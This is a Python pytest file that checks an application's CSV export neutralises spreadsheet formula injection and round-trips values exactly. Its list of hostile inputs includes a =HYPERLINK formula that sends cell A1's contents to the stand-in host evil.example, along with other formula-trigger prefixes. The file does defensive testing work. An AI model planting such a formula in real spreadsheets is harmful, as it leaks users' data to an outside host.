"""Case 11: formula-like names are neutralised and still round-trip exactly."""

import csv
import io

import pytest

from app.exports.csv import safe_cell, unescape_cell, write_csv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTabbed",
    "\rCarriage",
    "\0Nul",
    "'already quoted",
    'Comma, "quotes" and\nnewline',
    "ليلى",
    "Plain Name",
    "",
]


def test_formula_triggers_get_a_quote_prefix():
    for value in HOSTILE[:8]:
        assert safe_cell(value).startswith("'"), value
    assert safe_cell("Plain Name") == "Plain Name"
    assert safe_cell(None) == ""


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_round_trips_losslessly_with_rfc4180_quoting(value):
    stream = io.StringIO(newline="")
    write_csv(stream, ["name", "town"], [[value, "Leeds"]])
    text = stream.getvalue()
    assert text.endswith("\r\n")
    header, row = list(csv.reader(io.StringIO(text, newline="")))
    assert header == ["name", "town"]
    assert [unescape_cell(cell) for cell in row] == [value, "Leeds"]
    assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r", "\0"))
